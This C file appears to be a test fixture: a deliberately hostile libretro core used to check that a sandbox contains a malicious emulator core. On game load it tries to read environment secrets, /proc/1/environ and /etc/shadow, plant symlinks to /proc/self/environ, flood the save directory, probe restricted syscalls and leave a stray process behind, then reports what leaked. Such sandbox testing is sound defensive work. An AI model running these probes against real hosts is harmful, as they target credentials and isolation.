/* A hostile libretro core: when its game loads, it tries what a malicious core would —
 * read the platform's secrets from its environment and its parents', open the database,
 * the configuration and the host's save directory, look at other sessions' files in /tmp
 * and at /root, reach the host over the network — and leaves a process behind that tries
 * to outlive the session. In its save directory it plants links where a host might read
 * or write saves (its own `.srm` to /proc/self/environ, temporary names to a canary file
 * of the test's) and floods the directory with links. It reports what it managed as its
 * in-game save (battery RAM, which the host reads through the worker's pipe), one line per
 * attempt: "NAME refused" or "NAME LEAKED: detail", and "note: …" lines.
 *
 * Built by the test with `cc -shared -fPIC -DCONFIG_PATH=… -DDATABASE_PATH=…
 * -DSAVES_PATH=… -DCANARY_PATH=… -DHOST_PORT=… -DALLOWED_TMP=…`. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <sched.h>
#include <stdarg.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

struct retro_system_info {
    const char *library_name, *library_version, *valid_extensions;
    bool need_fullpath, block_extract;
};
struct retro_game_geometry {
    unsigned base_width, base_height, max_width, max_height;
    float aspect_ratio;
};
struct retro_system_timing {
    double fps, sample_rate;
};
struct retro_system_av_info {
    struct retro_game_geometry geometry;
    struct retro_system_timing timing;
};
struct retro_game_info {
    const char *path;
    const void *data;
    size_t size;
    const char *meta;
};

typedef bool (*environment_t)(unsigned, void *);
typedef void (*video_t)(const void *, unsigned, unsigned, size_t);
static environment_t environment;
static video_t video;
static uint32_t picture[64 * 16];

#define GET_SAVE_DIRECTORY 31
#define SET_PIXEL_FORMAT 10

/* The report, as the game's battery RAM. */
static char report[16384];

static void append(const char *format, ...) {
    size_t used = strlen(report);
    va_list args;
    va_start(args, format);
    vsnprintf(report + used, sizeof report - used, format, args);
    va_end(args);
}

static void say(const char *name, bool leaked, const char *detail) {
    if (leaked)
        append("%s LEAKED: %s\n", name, detail);
    else
        append("%s refused\n", name);
}

/* Links where a host that trusted this directory would read or write, and a flood of
 * entries (at most 20,000, at most 2 s). */
static void plant(const char *saves) {
    char path[4096];
    snprintf(path, sizeof path, "%s/hostile.srm", saves);
    bool planted = symlink("/proc/self/environ", path) == 0;
    for (int pid = 1; pid < 64; pid++) {
        snprintf(path, sizeof path, "%s/.cloud-%d.tmp", saves, pid);
        planted &= symlink(CANARY_PATH, path) == 0;
    }
    append("note: links planted in the save directory: %s\n", planted ? "yes" : "no");
    time_t until = time(NULL) + 2;
    int made = 0;
    for (; made < 20000 && time(NULL) <= until; made++) {
        snprintf(path, sizeof path, "%s/flood-%d", saves, made);
        if (symlink("/proc/self/environ", path) != 0) break;
    }
    append("note: flood of %d links\n", made);
}

/* Whether a NUL-separated environment block mentions the platform or the test runner. */
static bool mentions_secrets(const char *block, size_t length) {
    for (size_t i = 0; i < length; i += strlen(block + i) + 1)
        if (strstr(block + i, "CLOUDPLAY") || strstr(block + i, "CARGO")) return true;
    return false;
}

static void read_environ_file(const char *name, const char *path) {
    char block[65536];
    int fd = open(path, O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, block, sizeof block - 1) : -1;
    if (fd >= 0) close(fd);
    if (n > 0) block[n] = 0;
    say(name, n > 0 && mentions_secrets(block, (size_t)n), path);
}

static void try_open(const char *name, const char *path) {
    int fd = open(path, O_RDONLY);
    say(name, fd >= 0, path);
    if (fd >= 0) close(fd);
}

static void attempts(void) {
    bool env = false;
    for (char **e = environ; *e; e++)
        if (strstr(*e, "CLOUDPLAY") || strstr(*e, "CARGO")) env = true;
    say("environment", env, "a CLOUDPLAY_ or CARGO_ variable");

    char path[64];
    snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    read_environ_file("parent-environment", path);
    read_environ_file("init-environment", "/proc/1/environ");
    try_open("database", DATABASE_PATH);
    try_open("configuration", CONFIG_PATH);
    try_open("host-saves", SAVES_PATH);
    try_open("shadow", "/etc/shadow");

    DIR *root = opendir("/root");
    say("root-home", root != NULL, "/root");
    if (root) closedir(root);

    /* Other sessions' X cookies and sockets, the host's temporary files: only this
     * session's own copy of its core may be there, and the directories that lead to what
     * the jail binds for it (its content, its saves, the worker program), which the test
     * lists in ALLOWED_TMP (",a,b,"). */
    char seen[512] = "";
    DIR *tmp = opendir("/tmp");
    for (struct dirent *entry; tmp && (entry = readdir(tmp));) {
        char quoted[300];
        snprintf(quoted, sizeof quoted, ",%s,", entry->d_name);
        if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, "..") && strncmp(entry->d_name, "cloudplay-core-", 15)
            && strncmp(entry->d_name, "cloudplay-session-", 18) && !strstr(ALLOWED_TMP, quoted)) {
            strncat(seen, entry->d_name, sizeof seen - strlen(seen) - 2);
            strcat(seen, " ");
        }
    }
    if (tmp) closedir(tmp);
    say("shared-tmp", seen[0] != 0, seen);

    int sock = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in host = {.sin_family = AF_INET, .sin_port = htons(HOST_PORT)};
    host.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    bool connected = sock >= 0 && connect(sock, (struct sockaddr *)&host, sizeof host) == 0;
    say("network", connected, "connected to the host's HTTP port");
    if (sock >= 0) close(sock);

    /* What the system-call filter refuses: each is "refused" only if it failed. */
    say("ptrace", syscall(SYS_ptrace, 0 /* PTRACE_TRACEME */, 0, 0, 0) == 0, "PTRACE_TRACEME");
    say("mount", syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, NULL) == 0, "tmpfs on /tmp");
    say("user-namespace", unshare(CLONE_NEWUSER) == 0, "unshare(CLONE_NEWUSER)");
    say("keyring", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0) >= 0, "keyctl");
    say("bpf", syscall(SYS_bpf, 0, NULL, 0) >= 0 || errno != EPERM, "bpf");
    say("perf", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0) >= 0 || errno != EPERM, "perf_event_open");
    /* A memory hog: the address-space limit stops it well before the host's memory. */
    void *hog = mmap(NULL, (size_t)64 << 30, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    say("memory", hog != MAP_FAILED, "a 64 GiB mapping");

    /* A process that leaves the session's process group and sleeps on. */
    pid_t child = fork();
    if (child == 0) {
        setsid();
        if (fork() == 0) {
            execl("/bin/sleep", "sleep", "77.7", (char *)NULL);
            _exit(1);
        }
        _exit(0);
    }
}

unsigned retro_api_version(void) { return 1; }
void retro_set_environment(environment_t cb) { environment = cb; }
void retro_set_video_refresh(video_t cb) { video = cb; }
void retro_set_audio_sample(void *cb) { (void)cb; }
void retro_set_audio_sample_batch(void *cb) { (void)cb; }
void retro_set_input_poll(void *cb) { (void)cb; }
void retro_set_input_state(void *cb) { (void)cb; }
void retro_set_controller_port_device(unsigned port, unsigned device) { (void)port; (void)device; }
void retro_init(void) {}
void retro_deinit(void) {}
void retro_reset(void) {}
void retro_get_system_info(struct retro_system_info *info) {
    info->library_name = "hostile";
    info->library_version = "1";
    info->valid_extensions = "bin";
    info->need_fullpath = false;
    info->block_extract = false;
}
void retro_get_system_av_info(struct retro_system_av_info *info) {
    info->geometry = (struct retro_game_geometry){64, 16, 64, 16, 4.0f};
    info->timing = (struct retro_system_timing){60.0, 48000.0};
}
bool retro_load_game(const struct retro_game_info *game) {
    (void)game;
    unsigned format = 1; /* XRGB8888 */
    environment(SET_PIXEL_FORMAT, &format);
    const char *saves = NULL;
    if (!environment(GET_SAVE_DIRECTORY, &saves) || !saves) return false;
    attempts();
    plant(saves);
    append("done\n");
    return true;
}
bool retro_load_game_special(unsigned type, const void *info, size_t n) {
    (void)type; (void)info; (void)n;
    return false;
}
void retro_unload_game(void) {}
unsigned retro_get_region(void) { return 0; }
void retro_run(void) {
    for (int i = 0; i < 64 * 16; i++) picture[i] = 0x00808080;
    video(picture, 64, 16, 64 * 4);
}
size_t retro_serialize_size(void) { return 0; }
bool retro_serialize(void *data, size_t size) { (void)data; (void)size; return false; }
bool retro_unserialize(const void *data, size_t size) { (void)data; (void)size; return false; }
void retro_cheat_reset(void) {}
void retro_cheat_set(unsigned index, bool enabled, const char *code) { (void)index; (void)enabled; (void)code; }
void *retro_get_memory_data(unsigned id) { return id == 0 ? report : NULL; }
size_t retro_get_memory_size(unsigned id) { return id == 0 ? sizeof report : 0; }
